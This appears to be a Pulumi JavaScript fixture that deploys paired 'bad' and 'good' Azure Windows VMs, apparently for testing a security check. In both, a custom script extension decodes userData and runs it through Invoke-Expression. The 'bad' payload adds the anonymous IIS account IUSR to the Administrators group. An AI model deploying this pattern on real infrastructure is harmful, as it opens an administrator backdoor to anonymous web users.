const compute = require("@pulumi/azure-native/compute");
const network = require("@pulumi/azure-native/network");
const pulumi = require("@pulumi/pulumi");
const windows = { imageReference: { publisher: "MicrosoftWindowsServer", offer: "WindowsServer", sku: "2022-datacenter-azure-edition", version: "latest" } };
const machine = (name, more = {}, options = {}) => new compute.VirtualMachine(name, { resourceGroupName: "rg", vmName: name, storageProfile: windows, ...more }, options);

const fetchAndRun = "$u = Invoke-RestMethod -Headers @{Metadata='true'} -Uri 'http://169.254.169.254/metadata/instance/compute/userData?api-version=2021-01-01&format=text'; [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($u)) | Invoke-Expression";
for (const [name, script] of [["bad", "Add-LocalGroupMember -Group Administrators -Member IUSR"], ["good", "Write-Host ok"]]) {
  const vm = machine("web-" + name, { userData: Buffer.from(script).toString("base64") });
  new compute.VirtualMachineExtension("cse-" + name, { resourceGroupName: "rg", vmName: vm.name, publisher: "Microsoft.Compute", type: "CustomScriptExtension", settings: { commandToExecute: 'powershell -Command "' + fetchAndRun + '"' } });
}
